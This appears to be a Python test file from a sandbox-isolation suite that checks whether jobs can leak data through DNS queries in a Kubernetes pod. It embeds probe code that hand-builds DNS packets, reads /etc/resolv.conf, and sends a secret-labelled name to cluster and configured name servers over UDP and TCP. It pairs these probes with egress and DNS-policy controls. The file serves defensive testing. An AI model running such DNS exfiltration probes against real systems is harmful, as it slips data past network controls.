"""Row 7: a job carries data out in names that it asks for."""

from typing import Any

from tests.attack.network import UNFIT
from tests.attack.removals import NO_POLICY, NO_VERDICT
from tests.attack.vocabulary import Control, Manifest, Removal, Row, Target

ASK = """
import secrets, socket, struct
def query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", secrets.randbits(16), 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
def udp(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.7)
        sock.sendto(query(name), (server, 53))
        return len(sock.recv(2000)) > 12
def tcp(server, name):
    with socket.socket() as sock:
        sock.settimeout(0.7)
        sock.connect((server, 53))
        text = query(name)
        sock.sendall(struct.pack(">H", len(text)) + text)
        return len(sock.recv(2000)) > 12
configured = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
answered = []
for server in [*params["servers"], *configured]:
    for ask in (udp, tcp):
        for name in ("secret-0123456789.example.com", "kubernetes.default.svc.cluster.local"):
            try:
                if ask(server, name): answered.append(f"{server} over {ask.__name__}")
            except OSError:
                pass
answered
"""
RESOLVE = """
import socket
answered = []
for name in ("kubernetes.default.svc.cluster.local", "kube-dns.kube-system.svc.cluster.local"):
    try:
        answered.append(socket.getaddrinfo(name, 443)[0][4][0])
    except OSError:
        pass
answered
"""


async def ask_directly(target: Target) -> str | None:
    """The cluster's name server and those of resolv.conf, over UDP and TCP."""
    return await _answered(target, ASK, servers=[target.stage.addresses.dns])


async def resolve(target: Target) -> str | None:
    """As every program does."""
    return await _answered(target, RESOLVE)


async def _answered(target: Target, code: str, **params: Any) -> str | None:
    outcome = await target.run(code, timeout_s=38, **params)
    if outcome.kind == UNFIT:
        return None
    return f"names were answered: {outcome.value[:4]}" if outcome.expect() else None


def _cluster_dns(pod: Manifest) -> None:
    pod["spec"]["dnsPolicy"] = "ClusterFirst"
    del pod["spec"]["dnsConfig"]


ROW = Row(
    number=7,
    name="DNS exfiltration",
    attacks=(ask_directly, resolve),
    controls=(
        Control(name="NetworkPolicy without egress", off=NO_POLICY, others=(NO_VERDICT,)),
        Control(
            name="dnsPolicy: None with a dead name server",
            off=Removal(name="the cluster's name server", pod=_cluster_dns),
            others=(NO_POLICY, NO_VERDICT),
            attack=resolve,
        ),
    ),
)
